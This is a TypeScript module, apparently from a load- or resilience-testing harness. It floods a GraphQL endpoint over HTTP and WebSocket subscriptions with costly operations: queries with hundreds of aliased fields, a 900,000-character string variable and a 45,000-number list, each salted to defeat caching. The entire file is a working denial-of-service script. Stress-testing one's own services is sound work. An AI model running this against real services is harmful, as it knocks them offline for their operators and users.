// Sends GraphQL documents that take long to parse and plan, and variables that take long to parse; each is different.

import { WebSocket } from "ws";
import { ask } from "../ask.ts";
import { type Attack, failureOf, Outcomes, repeat, type Target } from "../attack.ts";
import { JSON_TYPE } from "../callers.ts";

const AT_ONCE = 20;
const SOCKETS = 10;
const PAUSE_MS = 50;
const LONG_TEXT = "x".repeat(900_000);
const NUMBERS = Array.from({ length: 45_000 }, (_, index) => index);

type Operation = { readonly query: string; readonly variables?: object };

/** The operations; each gets a text that no other has had. */
const OPERATIONS: readonly ((salt: string) => Operation)[] = [
  (salt) => ({ query: `{ articles(first: 1) { edges { node { ${names(salt, 900, ": content")} } } } }` }),
  (salt) => ({ query: `{ ${names(salt, 150, ": articles(first: 1) { edges { node { id author { name } } } }")} }` }),
  (salt) => ({ query: `{ ${names(salt, 24, ": articles(first: 1) { edges { node { id author { name } } } }")} }` }),
  (salt) => ({ query: `query ($t: String) { ${salt}: __typename }`, variables: { t: LONG_TEXT } }),
  (salt) => ({ query: `query ($n: [Int]) { ${salt}: __typename }`, variables: { n: NUMBERS } }),
];

let last = 0;

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  await Promise.all([
    repeat(target, { times: AT_ONCE, pauseMs: PAUSE_MS }, async () => {
      const sent = ask(`${target.url}/graphql`, { method: "POST", headers: JSON_TYPE, body: JSON.stringify(next()) });
      outcomes.count(await sent.then(({ status, text }) => codeIn(text) ?? String(status), failureOf));
    }),
    repeat(target, { times: SOCKETS, pauseMs: PAUSE_MS }, () => talk(target, outcomes)),
  ]);
  return outcomes.result;
};

/** Resolves when the socket has ended, or at the end time. */
async function talk({ url, until }: Target, outcomes: Outcomes): Promise<void> {
  const socket = new WebSocket(`${url.replace("http", "ws")}/graphql`, "graphql-transport-ws");
  const stop = setTimeout(() => socket.terminate(), Math.max(0, until - Date.now()));
  socket.on("open", () => socket.send(JSON.stringify({ type: "connection_init" })));
  socket.on("message", (data: Buffer) => {
    const { type } = JSON.parse(String(data)) as { readonly type: string };
    if (type === "next" || type === "error") outcomes.count(`${codeIn(String(data)) ?? "200"} on a socket`);
    if (type === "next") return;
    socket.send(JSON.stringify({ type: "subscribe", id: String(++last), payload: next() }));
  });
  socket.on("error", (error) => outcomes.count(failureOf(error)));
  await new Promise((resolve) => socket.once("close", resolve));
  clearTimeout(stop);
}

function next(): Operation {
  const number = ++last;
  return OPERATIONS[number % OPERATIONS.length]!(`n${number}`);
}

function names(salt: string, count: number, what: string): string {
  return Array.from({ length: count }, (_, index) => `${salt}_${index}${what}`).join(" ");
}

function codeIn(text: string): string | undefined {
  return /"code":"([A-Z_]+)"/.exec(text)?.[1];
}
